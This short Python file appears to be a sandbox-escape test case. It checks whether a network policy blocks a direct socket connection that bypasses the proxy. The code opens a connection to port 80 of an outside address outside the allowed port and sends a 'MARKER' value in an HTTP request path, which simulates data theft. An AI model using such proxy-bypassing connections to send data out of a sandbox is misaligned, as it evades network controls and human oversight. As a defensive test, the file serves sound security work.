# /// attack
# guarantee = "network"
# summary = "Connects to a listed address without the proxy."
# reference = "connect(2)"
# success = "the server gets the request"
# stage = ["internet"]
# observe = ["stolen"]
# needs = ["small-internet"]
# policy = { network = { allow = ["93.184.216.1:8080"] } }
# refusal = { default = "errno ENETUNREACH" }
# ///

import socket

from kit import attempt, judge, target

sock = attempt(lambda: socket.create_connection(("93.184.216.1", 80), 2), "ENETUNREACH")
sock.sendall(f"GET /{target('MARKER')} HTTP/1.0\r\n\r\n".encode())
judge(sock.recv(1 << 16))
